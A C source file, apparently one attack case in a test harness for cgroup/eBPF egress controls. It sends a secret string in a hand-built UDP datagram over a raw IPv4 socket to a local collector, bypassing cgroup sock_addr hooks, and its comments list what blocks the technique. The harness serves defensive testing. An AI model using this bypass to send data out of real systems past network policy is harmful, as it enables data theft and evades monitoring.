// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* raw_ip4 - a raw IPv4 socket (root: CAP_NET_RAW) carrying a hand-made UDP datagram to the
 * outsider's UDP port: raw sockets skip the cgroup sock_addr hooks (connect4/sendmsg4 are for
 * TCP/UDP sockets), only the egress program sees the packet (our addition).
 * Verifier: the collector's udp4 socket and its lo sniffer.
 * Blocks it: cgroup_skb/egress (per packet); no CAP_NET_RAW; seccomp on SOCK_RAW. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/udp.h>

#include "atk.h"

static int agent(struct atk_ctx *c)
{
    int fd = (int)atk_try(c, "socket(SOCK_RAW, IPPROTO_UDP)", socket(AF_INET, SOCK_RAW, IPPROTO_UDP));
    if (fd < 0)
        return 0;
    char pkt[128] = {0};
    struct udphdr *u = (struct udphdr *)pkt;
    size_t n = strlen(c->secret);
    u->source = htons(4242);
    u->dest = htons((uint16_t)atk_argl(c, "udp4"));
    u->len = htons((uint16_t)(sizeof(*u) + n));
    memcpy(pkt + sizeof(*u), c->secret, n);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    atk_try(c, "sendto 127.0.0.1", sendto(fd, pkt, sizeof(*u) + n, 0, (struct sockaddr *)&sa, sizeof(sa)));
    usleep(200000);
    return 0;
}

static const struct atk A = {
    "raw_ip4", "raw IPv4 socket, hand-made UDP to the outsider", ATK_SNIFF, NULL, agent, NULL, NULL, NULL};
ATK_MAIN(A)
